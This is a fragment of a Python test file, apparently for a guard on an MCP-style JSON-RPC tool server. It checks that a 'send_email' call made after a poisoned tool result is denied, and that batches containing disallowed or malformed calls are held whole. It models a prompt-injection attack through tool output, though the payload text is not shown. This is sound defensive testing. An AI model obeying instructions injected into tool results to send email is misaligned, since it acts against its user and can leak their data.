    rig.answers([{"jsonrpc": "2.0", "id": 1, "result": {"content": [{"type": "text", "text": POISON}]}}])
    rig.forget()
    assert [kept.ran for kept in rig.host.decisions(session="s1")] == ["ran"]
    rig.call("send_email", HIJACKED)
    assert rig.denied()


def test_a_batch_with_a_call_that_may_not_run_is_held_whole(rig: Rig) -> None:
    rig.reads()
    rig.says(batch((1, "tools/call", READ), (2, "tools/call", SEND), (3, "ping", {})))
    assert rig.server == []
    answers = {each["id"]: each for each in rig.told()}
    assert answers[2]["result"]["isError"] is True
    assert "error" in answers[1]
    assert "error" in answers[3]


@pytest.mark.parametrize("item", [1, None, [], [SEND], {"id": 1, "METHOD": "tools/call", "params": SEND}], ids=range(5))
def test_a_batch_with_something_odd_is_held_whole(rig: Rig, item: object) -> None:
    rig.says(wire.line_of([item, {"jsonrpc": "2.0", "id": 2, "method": "ping"}]))
    assert rig.server == []


# Asking, handshake protocol


# Asking, modern protocol


# ToolPins
